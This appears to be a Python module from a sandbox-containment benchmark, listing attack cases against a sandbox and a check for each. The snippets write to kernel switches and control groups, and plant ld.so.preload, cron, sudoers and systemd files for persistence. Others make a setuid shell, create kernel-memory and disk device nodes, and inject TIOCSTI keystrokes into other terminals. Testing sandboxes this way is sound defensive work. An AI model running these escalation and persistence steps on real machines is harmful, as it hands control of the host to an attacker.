"""Attacks on the machine's switches, devices and files, and on the programs that run us."""

from __future__ import annotations

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.belongings import has_set_id_file
from benchmarks.attacks.sight import holds_device, holds_for_writing

_NODES = (
    "mem kmem port kmsg kvm fuse net/tun loop-control vhost-net vhost-vsock hwrng tty tty0 tty1 "
    "console ptmx uinput autofs btrfs-control cpu_dma_latency snapshot mapper/control rfkill "
    "vfio/vfio cuse userfaultfd nvram rtc0 watchdog input/event0 dri/card0 udmabuf vmci sgx_enclave"
)

MACHINE = (
    Attack(
        "kernel-switches",
        "opens core_pattern, sysrq-trigger, uevent_helper and other switches for writing",
        "for path in WORLD['precious']:\n"
        "    if path.startswith(('/proc', '/sys')):\n"
        "        hold(path)",
        during=holds_for_writing,
    ),
    Attack(
        "kernel-switches-by-detours",
        "reaches the same switches over /proc/self/root, /proc/1/root and open folders",
        "HELD.append(os.open('/proc', os.O_PATH))\n"
        "for path in WORLD['precious']:\n"
        "    for way in ('/proc/self/root', '/proc/thread-self/root', '/proc/1/root'):\n"
        "        hold(way + path)\n"
        "    if path.startswith('/proc/'):\n"
        "        attempt(lambda: HELD.append(os.open(path[6:], os.O_WRONLY, dir_fd=HELD[0])))",
        during=holds_for_writing,
    ),
    Attack(
        "system-settings",
        "opens files of /etc for writing, or makes new ones there",
        "for path in WORLD['precious']:\n"
        "    if path.startswith('/etc'):\n"
        "        attempt(os.chmod, path, 0o666) if not BARE else None\n"
        "        hold(path, os.O_WRONLY | os.O_APPEND)",
        during=holds_for_writing,
    ),
    Attack(
        "preload-for-all-programs",
        "makes /etc/ld.so.preload, cron tables and profile scripts",
        "for path in ('/etc/ld.so.preload', '/etc/cron.d/egg', '/etc/profile.d/egg.sh',\n"
        "             '/etc/sudoers.d/egg', '/root/.bashrc', '/etc/systemd/system/egg.service'):\n"
        "    attempt(lambda: HELD.append(os.open(path, os.O_CREAT | os.O_RDWR)))\n"
        "    attempt(plant, path)",
        bare=False,
        next_code="for path in ('/etc/ld.so.preload', '/etc/cron.d/egg'):\n    pick(path)",
    ),
    Attack(
        "python-of-the-server",
        "opens this Python's standard library, its packages and its program for writing",
        "for path in WORLD['precious']:\n"
        "    if path.endswith('.py') or 'python' in path:\n"
        "        attempt(os.chmod, path, 0o777) if not BARE else None\n"
        "        hold(path, os.O_WRONLY | os.O_APPEND)\n"
        "        hold(path, os.O_RDWR)",
        during=holds_for_writing,
    ),
    Attack(
        "own-package",
        "opens the sandbox's own modules for writing, by every path that leads to them",
        "for module in list(sys.modules.values()):\n"
        "    file = getattr(module, '__file__', None) or ''\n"
        "    if 'egg_mcp' in getattr(module, '__name__', ''):\n"
        "        hold(file, os.O_WRONLY | os.O_APPEND)\n"
        "        hold('/proc/self/root' + file, os.O_RDWR)",
        during=holds_for_writing,
        place="construct",
    ),
    Attack(
        "device-nodes",
        "opens every device that is not plain: memory, kernel log, terminals, tunnels, KVM",
        f"for name in '{_NODES}'.split():\n"
        "    hold('/dev/' + name, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)",
        during=holds_device,
    ),
    Attack(
        "make-device-nodes",
        "makes device nodes of disks and of kernel memory, and opens them",
        "numbers = [(1, 1), (1, 2), (1, 11)]\n"
        "for line in Path('/proc/partitions').read_text().splitlines()[2:]:\n"
        "    numbers.append(tuple(map(int, line.split()[:2])))\n"
        "for folder in ('.', '/tmp', '/dev/shm', '/dev'):\n"
        "    for number, (major, minor) in enumerate(numbers):\n"
        "        kind = stat.S_IFCHR if major == 1 else stat.S_IFBLK\n"
        "        path = f'{folder}/{LABEL}-{number}'\n"
        "        with contextlib.suppress(OSError):\n"
        "            os.mknod(path, kind | 0o600, os.makedev(major, minor))\n"
        "            HELD.append(os.open(path, os.O_RDONLY))\n"
        "        with contextlib.suppress(OSError):\n"
        "            os.unlink(path)\n"
        "attempt(os.mknod, f'{LABEL}-disk', stat.S_IFBLK | 0o600, os.makedev(254, 0))",
        during=holds_device,
    ),
    Attack(
        "set-user-id-file",
        "makes a program that runs as its owner",
        "os.umask(0)\n"
        "shutil.copyfile('/bin/sh', 'shell')\n"
        "for mode in (0o4755, 0o2755, 0o6777):\n"
        "    attempt(os.chmod, 'shell', mode)\n"
        "    attempt(lambda: os.fchmod(os.open('shell', os.O_RDONLY), mode))\n"
        "    attempt(os.open, f'made{mode:o}', os.O_CREAT | os.O_WRONLY, mode)",
        during=has_set_id_file,
    ),
    Attack(
        "control-groups",
        "opens the switches of control groups, which start programs and lift limits",
        "for path in WORLD['precious']:\n    if '/cgroup' in path:\n        hold(path)",
        during=holds_for_writing,
    ),
    Attack(
        "type-into-a-terminal",
        "types a command into a terminal outside (TIOCSTI)",
        "for path in glob.glob('/dev/pts/*') + ['/dev/tty', '/dev/console']:\n"
        "    if path == WORLD['terminal'] or not BARE:\n"
        "        with contextlib.suppress(OSError):\n"
        "            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)\n"
        "            for one in NOTE[:8]:\n"
        "                attempt(fcntl.ioctl, fd, 0x5412, bytes([one]))\n"
        "for fd in range(3):\n"
        "    attempt(fcntl.ioctl, fd, 0x5412, b'x')",
    ),
    Attack(
        "name-of-the-machine",
        "renames the machine and sets its clock",
        "attempt(socket.sethostname, LABEL)\n"
        "attempt(time.clock_settime, time.CLOCK_REALTIME, time.time() + 7200)",
        bare=False,
    ),
)
